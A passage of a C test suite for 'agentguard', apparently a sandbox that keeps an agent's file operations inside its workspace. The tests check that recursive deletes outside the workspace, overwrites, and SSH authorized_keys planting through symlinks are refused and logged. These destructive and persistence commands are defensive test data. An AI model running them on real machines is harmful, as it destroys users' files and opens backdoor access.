/* Real programs against real trees, under the embedded default policy.
 * Every refusal test checks three things: the outside thing is still there
 * as it was, the log names the refusal (op, resolved absolute path, rule),
 * and the agent read the one-line reason on its stderr. Every "ordinary
 * work" test checks that the guard stayed silent: not one log line. */
#define _GNU_SOURCE
#include <criterion/criterion.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <sys/ioctl.h>
#include <jansson.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "harness.h"

static struct agt t;
static struct agt_result r;

static void fini_tree(void)
{
	agt_teardown(&t);
}

TestSuite(programs, .fini = fini_tree, .timeout = 120);

/* ---- helpers ------------------------------------------------------------ */

#define P agt_pathf

#define put agt_put

#define logtext() agt_logtext(&t)

static bool program_exists(const char *name)
{
	struct agt_result probe;
	return agt_sh_unguarded(&t, &probe, "command -v %s >/dev/null 2>&1", name) == 0;
}

/* Log lines whose fields equal every given (key, value) pair; the list ends
 * with a NULL key. A NULL value means the field must be JSON null. */
static int log_match(const char *key, ...)
{
	json_t *lines = agt_log_load(t.log), *o;
	size_t i;
	int n = 0;

	if (!lines)
		return -100000;
	json_array_foreach(lines, i, o)
	{
		bool ok = true;
		va_list ap;

		va_start(ap, key);
		for (const char *k = key; ok && k; k = va_arg(ap, const char *)) {
			const char *want = va_arg(ap, const char *);
			json_t *v = json_object_get(o, k);
			if (!want)
				ok = json_is_null(v);
			else
				ok = json_is_string(v) && strcmp(json_string_value(v), want) == 0;
		}
		va_end(ap);
		n += ok;
	}
	json_decref(lines);
	return n;
}

/* The line may go on with ": why" (a refusal made before a program started). */
static bool said(const char *op, const char *path, const char *path2, const char *rule)
{
	char want[3 * PATH_MAX];
	if (path2)
		snprintf(want, sizeof(want), "agentguard: denied %s %s -> %s (rule %s)", op, path,
			 path2, rule);
	else
		snprintf(want, sizeof(want), "agentguard: denied %s %s (rule %s)", op, path, rule);
	for (const char *p = strstr(r.err, want); p; p = strstr(p + 1, want)) {
		char next = p[strlen(want)];
		if (next == '\n' || next == ':')
			return true;
	}
	return false;
}

static bool logged(const char *op, const char *path, const char *rule)
{
	return log_match("op", op, "path", path, "rule", rule, "action", "deny", "errno", "EACCES",
			 "mode", "enforce", NULL) > 0;
}

/* One refusal: in the log and on the agent's stderr. */
static void expect_denied(const char *op, const char *path, const char *rule)
{
	cr_expect(logged(op, path, rule), "no log line {op:%s, path:%s, rule:%s}; log:\n%s", op,
		  path, rule, logtext());
	cr_expect(said(op, path, NULL, rule),
		  "stderr lacks 'agentguard: denied %s %s (rule %s)'; stderr:\n%s", op, path, rule,
		  r.err);
}

/* A refusal of a two-path call (rename, link). */
static void expect_denied2(const char *op, const char *path, const char *path2, const char *rule)
{
	int n = log_match("op", op, "path", path, "path2", path2, "rule", rule, "action", "deny",
			  "mode", "enforce", NULL);
	cr_expect(n > 0, "no log line {op:%s, path:%s, path2:%s, rule:%s}; log:\n%s", op, path,
		  path2, rule, logtext());
	cr_expect(said(op, path, path2, rule),
		  "stderr lacks 'agentguard: denied %s %s -> %s (rule %s)'; stderr:\n%s", op, path,
		  path2, rule, r.err);
}

/* A recursive delete that stops at its first failure: one of the
 * candidates (the tree itself, refused up front, or a file in it) is named. */
static void expect_denied_any(const char *op, const char *rule, const char *const *paths)
{
	for (const char *const *p = paths; *p; p++)
		if (logged(op, *p, rule) && said(op, *p, NULL, rule))
			return;
	cr_expect(false,
		  "no refusal of %s (rule %s) under %s in log and stderr; log:\n%s\nstderr:\n%s",
		  op, rule, paths[0], logtext(), r.err);
}

/* A recursive delete that keeps going: either the tree is refused as a
 * whole before the program starts, or every file in it is refused. */
static void expect_tree_refused(const char *top, const char *const *files)
{
	if (logged("delete", top, "outside-workspace") &&
	    said("delete", top, NULL, "outside-workspace"))
		return;
	for (const char *const *f = files; *f; f++)
		expect_denied("delete", *f, "outside-workspace");
}

/* The guard stayed out of the way entirely. */
static void expect_quiet(void)
{
	cr_expect_eq(agt_log_lines(&t), 0, "the guard logged during ordinary work:\n%s", logtext());
	cr_expect(strstr(r.err, "agentguard:") == NULL, "the guard spoke on stderr:\n%s", r.err);
}

static void expect_file(const char *path, const char *want)
{
	char *got = agt_read(path);
	cr_expect(got != NULL, "%s is gone", path);
	if (got)
		cr_expect_str_eq(got, want, "%s was changed", path);
	free(got);
}

static void expect_status_ok(void)
{
	cr_expect_eq(r.status, 0, "exit %d; stdout:\n%s\nstderr:\n%s", r.status, r.out, r.err);
}

static void expect_status_failed(void)
{
	cr_expect_neq(r.status, 0, "the program reported success; stdout:\n%s\nstderr:\n%s", r.out,
		      r.err);
}

/* An outside project: proj/a.txt and proj/sub/b.txt. */
static const char *outside_tree(void)
{
	put(P("%s/proj/a.txt", t.out), "alpha\n");
	put(P("%s/proj/sub/b.txt", t.out), "beta\n");
	return P("%s/proj", t.out);
}

static void expect_tree_intact(void)
{
	expect_file(P("%s/proj/a.txt", t.out), "alpha\n");
	expect_file(P("%s/proj/sub/b.txt", t.out), "beta\n");
}

/* ---- deleting outside trees ---------------------------------------------- */

Test(programs, rm_rf_outside_tree)
{
	agt_setup(&t, "rm-rf-outside");
	const char *proj = outside_tree();

	agt_sh(&t, &r, "rm -rf '%s'", proj);
	expect_status_failed();
	expect_tree_intact();
	const char *files[] = {P("%s/a.txt", proj), P("%s/sub/b.txt", proj), NULL};
	expect_tree_refused(proj, files);
}

Test(programs, rm_rf_through_workspace_symlink)
{
	agt_setup(&t, "rm-rf-symlink");
	const char *proj = outside_tree();
	cr_assert_eq(symlink(proj, P("%s/lnk", t.ws)), 0);

	agt_sh(&t, &r, "rm -rf lnk/");
	expect_status_failed();
	expect_tree_intact();
	/* The log names where the files really are, not the link. */
	const char *files[] = {P("%s/a.txt", proj), P("%s/sub/b.txt", proj), NULL};
	expect_tree_refused(proj, files);
	cr_expect_eq(log_match("path", P("%s/lnk/a.txt", t.ws), NULL), 0,
		     "the log names the unresolved path:\n%s", logtext());
}

Test(programs, rm_of_the_symlink_itself_is_allowed)
{
	agt_setup(&t, "rm-symlink-itself");
	const char *proj = outside_tree();
	const char *lnk = P("%s/lnk", t.ws);
	cr_assert_eq(symlink(proj, lnk), 0);

	agt_sh(&t, &r, "rm lnk");
	expect_status_ok();
	cr_expect(!agt_exists(lnk), "the workspace symlink was not removed");
	expect_tree_intact();
	expect_quiet();
}

Test(programs, find_delete_outside)
{
	agt_setup(&t, "find-delete");
	const char *proj = outside_tree();

	agt_sh(&t, &r, "find '%s' -delete", proj);
	expect_status_failed();
	expect_tree_intact();
	const char *files[] = {P("%s/a.txt", proj), P("%s/sub/b.txt", proj), NULL};
	expect_tree_refused(proj, files);
}

Test(programs, find_exec_rm_outside)
{
	agt_setup(&t, "find-exec-rm");
	const char *proj = outside_tree();

	agt_sh(&t, &r, "find '%s' -type f -exec rm {} +", proj);
	expect_status_failed();
	expect_tree_intact();
	const char *files[] = {P("%s/a.txt", proj), P("%s/sub/b.txt", proj), NULL};
	expect_tree_refused(proj, files);
}

/* ---- python3 --------------------------------------------------------------- */

/* Runs a python3 snippet with the given arguments as sys.argv[1:]. A refused
 * call surfaces as an OSError: the snippet prints its name and errno. */
static int py(const char *code, const char *a1, const char *a2)
{
	const char *argv[] = {"python3", "-c", code, a1, a2, NULL};
	return agt_run(&t, &r, argv, NULL);
}

#define PY_TRY(body)                                                                               \
	"import os, sys, shutil, pathlib\n"                                                        \
	"try:\n"                                                                                   \
	"    " body "\n"                                                                           \
	"    print('done')\n"                                                                      \
	"except OSError as e:\n"                                                                   \
	"    print('refused', type(e).__name__, e.errno)\n"                                        \
	"    sys.exit(3)\n"

static void expect_py_refused(void)
{
	cr_expect(strstr(r.out, "refused PermissionError 13") != NULL,
		  "python3 did not see EACCES; stdout:\n%s\nstderr:\n%s", r.out, r.err);
}

Test(programs, python_rmtree_outside)
{
	agt_setup(&t, "py-rmtree");
	const char *proj = outside_tree();

	py(PY_TRY("shutil.rmtree(sys.argv[1])"), proj, NULL);
	expect_py_refused();
	expect_tree_intact();
	const char *cands[] = {proj, P("%s/a.txt", proj), P("%s/sub/b.txt", proj),
			       P("%s/sub", proj), NULL};
	expect_denied_any("delete", "outside-workspace", cands);
}

/* The guard remembers where a descriptor points until the number is
 * closed or anything is renamed (lib/core/dirfds.c). A file moved under a
 * rule by a rename is judged where it now is: one opened, and one just
 * made with O_EXCL, whose path the guard knows from creating it. */
static void fchmod_after_move(const char *name, const char *open_call)
{
	agt_policy(&t, "{\"version\": 1, \"default\": \"allow\", \"rules\": [{\"id\": \"locked\", "
		       "\"ops\": [\"chmod\"], \"paths\": [\"${WORKSPACE}/locked/**\"], "
		       "\"action\": \"deny\"}]}");
	agt_mkdirs(P("%s/a", t.ws));
	mkdir(P("%s/locked", t.ws), 0755);

	py(P(PY_TRY("fd = %s\n"
		    "    os.fchmod(fd, 0o640)\n"
		    "    os.rename('a', 'locked/a')\n"
		    "    os.fchmod(fd, 0o600)"),
	     open_call),
	   NULL, NULL);
	expect_py_refused();
	struct stat st;
	cr_assert_eq(stat(P("%s/locked/a/%s", t.ws, name), &st), 0);
	cr_expect_eq(st.st_mode & 0777, 0640, "mode %o", st.st_mode & 0777);
	expect_denied("chmod", P("%s/locked/a/%s", t.ws, name), "locked");
}

Test(programs, python_fchmod_after_its_directory_moved)
{
	agt_setup(&t, "py-fd-rename");
	put(P("%s/a/f", t.ws), "x\n");
	chmod(P("%s/a/f", t.ws), 0644);
	fchmod_after_move("f", "os.open('a/f', os.O_RDONLY)");
}

Test(programs, python_fchmod_of_a_new_file_after_its_directory_moved)
{
	agt_setup(&t, "py-fd-new-rename");
	fchmod_after_move("g", "os.open('a/g', os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)");
}

/* An exclusive create through a workspace symlink is judged where the
 * file would land, and nothing is made there; O_EXCL on an existing file
 * still says EEXIST. */
Test(programs, python_exclusive_create_through_a_symlink)
{
	agt_setup(&t, "py-excl-symlink");
	agt_mkdirs(P("%s/.ssh", t.home));
	const char *f = P("%s/.ssh/authorized_keys", t.home);
	cr_assert_eq(symlink(P("%s/.ssh", t.home), P("%s/keys", t.ws)), 0);
	put(P("%s/exists", t.ws), "x\n");

	py(PY_TRY("try:\n"
		  "        os.open('exists', os.O_WRONLY | os.O_CREAT | os.O_EXCL)\n"
		  "    except FileExistsError:\n"
		  "        print('EEXIST')\n"
		  "    with open('keys/authorized_keys', 'x') as f:\n"
		  "        f.write('ssh-rsa AAAAevil attacker')"),
	   NULL, NULL);
	expect_py_refused();
	cr_expect(strstr(r.out, "EEXIST") != NULL, "stdout:\n%s", r.out);
	cr_expect(!agt_exists(f), "authorized_keys was planted");
	expect_denied("create", f, "persistence");
}

/* open(..., 'w') is O_CREAT without O_EXCL. The guard tries it as a new
 * file while the program's last such open found nothing there, and judges
 * it the general way once one did: new files, rewrites of them, and the
 * same symlink into ~/.ssh met in each state, then new files again. */
Test(programs, python_write_opens_new_and_existing_files)
{
	agt_setup(&t, "py-write-new-old");
	agt_mkdirs(P("%s/.ssh", t.home));
	cr_assert_eq(symlink(P("%s/.ssh", t.home), P("%s/keys", t.ws)), 0);

	py("import os\n"
	   "def plant(name):\n"
	   "    try:\n"
	   "        open('keys/' + name, 'w').write('ssh-rsa AAAAevil')\n"
	   "        print('planted', name)\n"
	   "    except PermissionError:\n"
	   "        print('refused', name)\n"
	   "for i in range(3):\n"
	   "    open('n%d' % i, 'w').write('first')\n"
	   "plant('authorized_keys')\n"
	   "for i in range(3):\n"
	   "    open('n%d' % i, 'w').write('second')\n"
	   "plant('authorized_keys2')\n"
	   "for i in range(3, 5):\n"
	   "    open('n%d' % i, 'w').write('first')\n"
	   "print('done')\n",
	   NULL, NULL);
	expect_status_ok();
	cr_expect(strstr(r.out, "refused authorized_keys\n") && strstr(r.out, "refused authorized_keys2\n"),
		  "stdout:\n%s\nstderr:\n%s", r.out, r.err);
	cr_expect(strstr(r.out, "done"), "stdout:\n%s\nstderr:\n%s", r.out, r.err);
	for (int i = 0; i < 5; i++)
		expect_file(P("%s/n%d", t.ws, i), i < 3 ? "second" : "first");
	cr_expect(!agt_exists(P("%s/.ssh/authorized_keys", t.home)), "authorized_keys was planted");
	cr_expect(!agt_exists(P("%s/.ssh/authorized_keys2", t.home)), "authorized_keys2 was planted");
	expect_denied("create", P("%s/.ssh/authorized_keys", t.home), "persistence");
	expect_denied("create", P("%s/.ssh/authorized_keys2", t.home), "persistence");
	cr_expect_eq(agt_log_lines(&t), 2, "log:\n%s", logtext());
}

static mode_t mode_of(const char *path)
{
	struct stat st;
	cr_assert(lstat(path, &st) == 0, "%s is gone", path);
	return st.st_mode & 07777;
}

/* A file the program made itself may be changed through its descriptor,
 * also outside the workspace where changing an existing file is refused:
 * made with O_EXCL, made with 'w', and one that was there before. */
Test(programs, python_fchmod_of_files_it_made_outside)
{
	agt_setup(&t, "py-fchmod-made");
	t.no_floor = true; /* the preload's own answer */
	const char *old = P("%s/old.txt", t.out);
	put(old, "x\n");
	chmod(old, 0644);

	py("import os, sys\n"
	   "d = sys.argv[1]\n"
	   "fd = os.open(d + '/excl.txt', os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)\n"
	   "os.fchmod(fd, 0o600)\n"
	   "f = open(d + '/w.txt', 'w')\n"
	   "os.fchmod(f.fileno(), 0o600)\n"
	   "fd = os.open(d + '/old.txt', os.O_RDONLY)\n"
	   "try:\n"
	   "    os.fchmod(fd, 0o600)\n"
	   "    print('old changed')\n"
	   "except PermissionError:\n"
	   "    print('old refused')\n",
	   t.out, NULL);
	expect_status_ok();
	cr_expect(strstr(r.out, "old refused"), "stdout:\n%s\nstderr:\n%s", r.out, r.err);
	cr_expect_eq(mode_of(P("%s/excl.txt", t.out)), 0600);
	cr_expect_eq(mode_of(P("%s/w.txt", t.out)), 0600);
	cr_expect_eq(mode_of(old), 0644);
	expect_denied("chmod", old, "outside-workspace");
	cr_expect_eq(agt_log_lines(&t), 1, "log:\n%s", logtext());
}

/* A file the program made, once linked elsewhere, has two names: a change
 * through its descriptor is judged as that of a file with other names
 * (as if anywhere, so refused by "outside-workspace"), as it was before
 * the guard knew the file was made. */
Test(programs, python_ftruncate_of_a_made_file_after_a_link)
{
	agt_setup(&t, "py-made-link");
	t.no_floor = true; /* the preload's own answer */
	const char *other = P("%s/other", t.out);

	py(PY_TRY("fd = os.open('made', os.O_RDWR | os.O_CREAT | os.O_EXCL, 0o644)\n"
		  "    os.write(fd, b'kept')\n"
		  "    os.ftruncate(fd, 4)\n"
		  "    os.link('made', sys.argv[1])\n"
		  "    os.ftruncate(fd, 0)"),
	   other, NULL);
	expect_py_refused();
	expect_file(P("%s/made", t.ws), "kept");
	cr_expect(agt_exists(other), "the link was not made");
	expect_denied("write", P("%s/made", t.ws), "outside-workspace");
}

/* tar x sets the mode and time of each file it made through the file's
 * descriptor (futimens, fchown, fchmod): all of them land. */
Test(programs, tar_x_keeps_modes_and_times)
{
	agt_setup(&t, "tar-modes");
	put(P("%s/src/run.sh", t.ws), "#!/bin/sh\n");
	put(P("%s/src/deep/secret.txt", t.ws), "s\n");
	chmod(P("%s/src/run.sh", t.ws), 0751);
	chmod(P("%s/src/deep/secret.txt", t.ws), 0600);

	agt_sh(&t, &r,
	       "set -e; touch -d '2001-02-03 04:05:06' src/run.sh; tar cf s.tar src; rm -rf src; "
	       "tar xf s.tar");
	expect_status_ok();
	struct stat st;
	cr_assert_eq(stat(P("%s/src/run.sh", t.ws), &st), 0);
	cr_expect_eq(st.st_mode & 0777, 0751, "mode %o", st.st_mode & 0777);
	cr_expect_eq(st.st_mtime, 981173106, "mtime %ld", (long)st.st_mtime);
	cr_assert_eq(stat(P("%s/src/deep/secret.txt", t.ws), &st), 0);
	cr_expect_eq(st.st_mode & 0777, 0600, "mode %o", st.st_mode & 0777);
	expect_quiet();
}

/* ...and a directory descriptor's number, closed and given to another
 * directory, is judged as the new one. */
Test(programs, python_unlink_dir_fd_after_the_number_is_reused)
{
	agt_setup(&t, "py-fd-reuse");
	agt_policy(&t, "{\"version\": 1, \"default\": \"allow\", \"rules\": [{\"id\": \"locked\", "
		       "\"ops\": [\"delete\"], \"paths\": [\"${WORKSPACE}/locked/**\"], "
		       "\"action\": \"deny\"}]}");
	put(P("%s/free/x", t.ws), "x\n");
	put(P("%s/locked/f", t.ws), "keep\n");

	py(PY_TRY("d = os.open('free', os.O_RDONLY)\n"
		  "    os.unlink('x', dir_fd=d)\n"
		  "    os.close(d)\n"
		  "    d2 = os.open('locked', os.O_RDONLY)\n"
		  "    assert d2 == d, (d, d2)\n"
		  "    os.unlink('f', dir_fd=d2)"),
	   NULL, NULL);
	expect_py_refused();
	expect_file(P("%s/locked/f", t.ws), "keep\n");
	cr_expect_neq(access(P("%s/free/x", t.ws), F_OK), 0, "the free file stayed");
	expect_denied("delete", P("%s/locked/f", t.ws), "locked");
}

Test(programs, python_os_remove_outside)
{
	agt_setup(&t, "py-remove");
	const char *f = P("%s/notes.txt", t.out);
	put(f, "keep me\n");

	py(PY_TRY("os.remove(sys.argv[1])"), f, NULL);
	expect_py_refused();
	expect_file(f, "keep me\n");
	expect_denied("delete", f, "outside-workspace");
}

Test(programs, python_os_rename_outside_into_workspace)
{
	agt_setup(&t, "py-rename");
	const char *f = P("%s/notes.txt", t.out);
	const char *dst = P("%s/notes.txt", t.ws);
	put(f, "keep me\n");

	py(PY_TRY("os.rename(sys.argv[1], sys.argv[2])"), f, dst);
	expect_py_refused();
	expect_file(f, "keep me\n");
	cr_expect(!agt_exists(dst), "the file arrived in the workspace");
	expect_denied2("rename", f, dst, "outside-workspace");
}

Test(programs, python_open_w_outside_existing)
{
	agt_setup(&t, "py-open-w");
	const char *f = P("%s/notes.txt", t.out);
	put(f, "keep me\n");

	py(PY_TRY("open(sys.argv[1], 'w').write('clobbered')"), f, NULL);
	expect_py_refused();
	expect_file(f, "keep me\n");
	expect_denied("write", f, "outside-workspace");
}

Test(programs, python_open_a_outside_existing)
{
	agt_setup(&t, "py-open-a");
	const char *f = P("%s/notes.txt", t.out);
	put(f, "keep me\n");

	py(PY_TRY("open(sys.argv[1], 'a').write('appended')"), f, NULL);
	expect_py_refused();
	expect_file(f, "keep me\n");
	expect_denied("write", f, "outside-workspace");
}

Test(programs, python_pathlib_write_text_outside_existing)
{
	agt_setup(&t, "py-pathlib");
	const char *f = P("%s/notes.txt", t.out);
	put(f, "keep me\n");

	py(PY_TRY("pathlib.Path(sys.argv[1]).write_text('clobbered')"), f, NULL);
	expect_py_refused();
	expect_file(f, "keep me\n");
	expect_denied("write", f, "outside-workspace");
}

Test(programs, python_creates_new_outside_file)
{
	agt_setup(&t, "py-create-new");
	t.no_floor = true; /* the preload's own answer; test_floor has the floor's */
	const char *f = P("%s/fresh.txt", t.out);

	py(PY_TRY("open(sys.argv[1], 'w').write('new file')"), f, NULL);
	expect_status_ok();
	cr_expect(strstr(r.out, "done") != NULL, "stdout:\n%s\nstderr:\n%s", r.out, r.err);
	expect_file(f, "new file");
	expect_quiet();
}

/* ---- perl --------------------------------------------------------------- */

static int perl(const char *code, const char *a1, const char *a2)
{
	const char *argv[] = {"perl", "-e", code, a1, a2, NULL};
	return agt_run(&t, &r, argv, NULL);
}

static void expect_perl_refused(void)
{
	cr_expect(strstr(r.out, "refused: Permission denied") != NULL,
		  "perl did not see EACCES; stdout:\n%s\nstderr:\n%s", r.out, r.err);
}

Test(programs, perl_unlink_outside)
{
	agt_setup(&t, "perl-unlink");
	const char *f = P("%s/notes.txt", t.out);
	put(f, "keep me\n");

	perl("unlink($ARGV[0]) or print \"refused: $!\\n\"", f, NULL);
	expect_perl_refused();
	expect_file(f, "keep me\n");
	expect_denied("delete", f, "outside-workspace");
}

Test(programs, perl_rename_outside_into_workspace)
{
	agt_setup(&t, "perl-rename");
	const char *f = P("%s/notes.txt", t.out);
	const char *dst = P("%s/notes.txt", t.ws);
	put(f, "keep me\n");

	perl("rename($ARGV[0], $ARGV[1]) or print \"refused: $!\\n\"", f, dst);
	expect_perl_refused();
	expect_file(f, "keep me\n");
	cr_expect(!agt_exists(dst), "the file arrived in the workspace");
	expect_denied2("rename", f, dst, "outside-workspace");
}

Test(programs, perl_open_truncate_outside)
{
	agt_setup(&t, "perl-open");
	const char *f = P("%s/notes.txt", t.out);
	put(f, "keep me\n");

	perl("open(my $fh, '>', $ARGV[0]) or print \"refused: $!\\n\"; print $fh 'x' if $fh", f,
	     NULL);
	expect_perl_refused();
	expect_file(f, "keep me\n");
	expect_denied("write", f, "outside-workspace");
}

/* ---- node --------------------------------------------------------------- */

static int node(const char *code, const char *a1)
{
	const char *argv[] = {"node", "-e", code, a1, NULL};
	return agt_run(&t, &r, argv, NULL);
}

#define NODE_TRY(body)                                                                             \
	"const fs = require('fs'); const p = process.argv[1];"                                     \
	"try { " body "; console.log('done'); }"                                                   \
	"catch (e) { console.log('refused ' + e.code); process.exit(3); }"

static void need_node(void)
{
	if (!program_exists("node"))
		cr_skip_test("node is not installed (apt-get install nodejs)");
}

static void expect_node_refused(void)
{
	cr_expect(strstr(r.out, "refused EACCES") != NULL,
		  "node did not see EACCES; stdout:\n%s\nstderr:\n%s", r.out, r.err);
}

Test(programs, node_rmsync_recursive_outside)
{
	agt_setup(&t, "node-rmsync");
	need_node();
	const char *proj = outside_tree();

	node(NODE_TRY("fs.rmSync(p, {recursive: true, force: true})"), proj);
	expect_node_refused();
	expect_tree_intact();
	const char *cands[] = {proj, P("%s/a.txt", proj), P("%s/sub/b.txt", proj),
			       P("%s/sub", proj), NULL};
	expect_denied_any("delete", "outside-workspace", cands);
}

Test(programs, node_unlinksync_outside)
{
	agt_setup(&t, "node-unlink");
	need_node();
	const char *f = P("%s/notes.txt", t.out);
	put(f, "keep me\n");

	node(NODE_TRY("fs.unlinkSync(p)"), f);
	expect_node_refused();
	expect_file(f, "keep me\n");
	expect_denied("delete", f, "outside-workspace");
}

Test(programs, node_writefilesync_outside)
{
	agt_setup(&t, "node-write");
	need_node();
	const char *f = P("%s/notes.txt", t.out);
	put(f, "keep me\n");

	node(NODE_TRY("fs.writeFileSync(p, 'clobbered')"), f);
	expect_node_refused();
	expect_file(f, "keep me\n");
	expect_denied("write", f, "outside-workspace");
}

Test(programs, node_async_writefile_from_the_thread_pool)
{
	agt_setup(&t, "node-async");
	need_node();
	const char *f = P("%s/notes.txt", t.out);
	put(f, "keep me\n");

	/* libuv runs these calls on its worker threads. */
	node("const fs = require('fs'); const p = process.argv[1];"
	     "fs.writeFile(p, 'clobbered', e => {"
	     "  console.log(e ? 'refused ' + e.code : 'done');"
	     "  fs.promises.unlink(p).then(() => console.log('unlinked'),"
	     "                             e => console.log('refused ' + e.code)); })",
	     f);
	expect_node_refused();
	cr_expect(strstr(r.out, "unlinked") == NULL, "stdout:\n%s", r.out);
	expect_file(f, "keep me\n");
	expect_denied("write", f, "outside-workspace");
	expect_denied("delete", f, "outside-workspace");
}

/* ---- coreutils and the shell ---------------------------------------------- */

/* rm -f of a name outside that is not there succeeds, as it does
 * unguarded: nothing is kept by refusing it, and set -e scripts would
 * stop. The attempt is logged, as audited. */
Test(programs, rm_f_of_a_missing_file_outside)
{
	agt_setup(&t, "rm-f-missing");
	const char *gone = P("%s/not-there.txt", t.out);

	agt_sh(&t, &r, "rm -f '%s' && echo rc=$?", gone);
	cr_expect(strstr(r.out, "rc=0"), "stdout:\n%s\nstderr:\n%s", r.out, r.err);
	cr_expect_eq(agt_log_count(&t, "delete", gone, "outside-workspace"), 1, "%s",
		     agt_logtext(&t));
	cr_expect(strstr(agt_logtext(&t), "\"action\":\"audit\""), "%s", agt_logtext(&t));
	cr_expect(!agt_exists(gone));
}

/* mv of a name outside that is not there fails as it does unguarded
 * (ENOENT, not EACCES), logged as audited; onto a protected name it is
 * still refused, lest a source made meanwhile replace it. */
Test(programs, mv_of_a_missing_file_outside)
{
	agt_setup(&t, "mv-missing");
	const char *gone = P("%s/not-there.txt", t.out);
	const char *dst = P("%s/moved.txt", t.ws);
	const char *kept = P("%s/kept.txt", t.out);
	put(kept, "keep me\n");

	agt_sh(&t, &r, "LC_ALL=C mv '%s' '%s'; echo rc=$?", gone, dst);
	cr_expect(strstr(r.out, "rc=1"), "stdout:\n%s\nstderr:\n%s", r.out, r.err);
	cr_expect(strstr(r.err, "No such file"), "stderr:\n%s", r.err);
	cr_expect_eq(agt_log_count(&t, "rename", gone, "outside-workspace"), 1, "%s",
		     agt_logtext(&t));
	cr_expect(strstr(agt_logtext(&t), "\"action\":\"audit\""), "%s", agt_logtext(&t));
	cr_expect(!agt_exists(dst));

	agt_sh(&t, &r, "LC_ALL=C mv -f '%s' '%s'; echo rc=$?", P("%s/also-gone", t.ws), kept);
	cr_expect(strstr(r.out, "rc=1"), "stdout:\n%s\nstderr:\n%s", r.out, r.err);
	cr_expect(strstr(r.err, "agentguard: denied rename"), "stderr:\n%s", r.err);
	expect_file(kept, "keep me\n");
}

Test(programs, mv_outside_into_workspace)
{
	agt_setup(&t, "mv-out-in");
	const char *f = P("%s/notes.txt", t.out);
	const char *dst = P("%s/notes.txt", t.ws);
	put(f, "keep me\n");

	agt_sh(&t, &r, "mv '%s' .", f);
	expect_status_failed();
	expect_file(f, "keep me\n");
	cr_expect(!agt_exists(dst), "the file arrived in the workspace");
	expect_denied2("rename", f, dst, "outside-workspace");
}

/* Both names in one directory (resolved once for the two), reached
 * through a link in the workspace that leads outside: both are judged
 * where they really are. The same rename between two plain names of the
 * workspace goes through. */
Test(programs, mv_within_a_linked_directory_outside)
{
	agt_setup(&t, "mv-sibling-link");
	const char *f = P("%s/notes.txt", t.out), *moved = P("%s/renamed.txt", t.out);
	put(f, "keep me\n");
	put(P("%s/draft.txt", t.ws), "draft\n");

	agt_sh(&t, &r, "ln -s '%s' outlink && mv draft.txt final.txt && mv outlink/notes.txt "
		       "outlink/renamed.txt",
	       t.out);
	expect_status_failed();
	expect_file(f, "keep me\n");
	cr_expect(!agt_exists(moved), "the file was renamed outside the workspace");
	expect_file(P("%s/final.txt", t.ws), "draft\n");
	expect_denied2("rename", f, moved, "outside-workspace");
}

Test(programs, mv_workspace_onto_existing_outside_file)
{
	agt_setup(&t, "mv-in-onto-out");
	const char *f = P("%s/notes.txt", t.out);
	const char *src = P("%s/draft.txt", t.ws);
	put(f, "keep me\n");
	put(src, "draft\n");

	agt_sh(&t, &r, "mv draft.txt '%s'", f);
	expect_status_failed();
	expect_file(f, "keep me\n");
	expect_file(src, "draft\n");
	expect_denied2("rename", src, f, "outside-workspace");
}

Test(programs, cp_over_existing_outside_file)
{
	agt_setup(&t, "cp-over-out");
	const char *f = P("%s/notes.txt", t.out);
	put(f, "keep me\n");
	put(P("%s/draft.txt", t.ws), "draft\n");

	agt_sh(&t, &r, "cp draft.txt '%s'", f);
	expect_status_failed();
	expect_file(f, "keep me\n");
	expect_denied("write", f, "outside-workspace");
}

Test(programs, redirect_truncate_outside_file)
{
	agt_setup(&t, "redir-trunc");
	const char *f = P("%s/notes.txt", t.out);
	put(f, "keep me\n");

	agt_sh(&t, &r, "echo clobbered > '%s'", f);
	expect_status_failed();
	expect_file(f, "keep me\n");
	expect_denied("write", f, "outside-workspace");
}

Test(programs, redirect_append_outside_file)
{
	agt_setup(&t, "redir-append");
	const char *f = P("%s/notes.txt", t.out);
	put(f, "keep me\n");

	agt_sh(&t, &r, "echo appended >> '%s'", f);
	expect_status_failed();
	expect_file(f, "keep me\n");
	expect_denied("write", f, "outside-workspace");
}

/* chattr sets inode flags through ioctl on a descriptor opened for
 * reading: judged as a change of mode. +A (no atime), which an owner may
 * set without privilege; +i works the same way for root. */
static bool has_flag_a(const char *path)
{
	int fl = 0, fd = open(path, O_RDONLY | O_CLOEXEC);
	bool ok = fd >= 0 && ioctl(fd, FS_IOC_GETFLAGS, &fl) == 0 && (fl & FS_NOATIME_FL);
	if (fd >= 0)
		close(fd);
	return ok;
}

Test(programs, chattr_of_bashrc_is_refused_and_of_a_workspace_file_works)
{
	agt_setup(&t, "chattr");
	const char *f = P("%s/.bashrc", t.home), *in = P("%s/data.txt", t.ws);
	put(f, "# start-up\n");
	put(in, "data\n");
	if (agt_sh_unguarded(&t, &r, "command -v chattr && chattr -A '%s'", in) != 0)
		cr_skip_test("no chattr, or a filesystem without inode flags");

	agt_sh(&t, &r, "chattr +A data.txt && echo in-ok; chattr +A ~/.bashrc; echo rc=$?");
	cr_expect(strstr(r.out, "in-ok"), "stdout:\n%s\nstderr:\n%s", r.out, r.err);
	cr_expect(has_flag_a(in), "the workspace file did not get +A");
	cr_expect(strstr(r.out, "rc=1"), "chattr of ~/.bashrc did not fail:\n%s", r.out);
	cr_expect(!has_flag_a(f), "~/.bashrc got +A");
	expect_denied("chmod", f, "persistence");

	/* The kernel reads the request's low 32 bits; so does the guard. */
	const char *src = P("%s/hi.c", t.root), *bin = P("%s/hi", t.root);
	agt_write(src, "#include <errno.h>\n#include <fcntl.h>\n#include <linux/fs.h>\n"
		       "#include <stdio.h>\n#include <sys/ioctl.h>\n"
		       "int main(int c, char **v) {\n"
		       "\tint fl = 0, fd = open(v[1], O_RDONLY);\n"
		       "\tioctl(fd, FS_IOC_GETFLAGS, &fl);\n"
		       "\tfl |= FS_NOATIME_FL;\n"
		       "\tint rc = ioctl(fd, FS_IOC_SETFLAGS | (1UL << 32), &fl);\n"
		       "\tprintf(rc ? \"errno %d\\n\" : \"set\\n\", errno);\n"
		       "\treturn 0;\n}\n");
	cr_assert_eq(agt_sh_unguarded(&t, &r, "gcc -o '%s' '%s' 2>&1", bin, src), 0, "%s", r.out);
	agt_sh(&t, &r, "'%s' ~/.bashrc", bin);
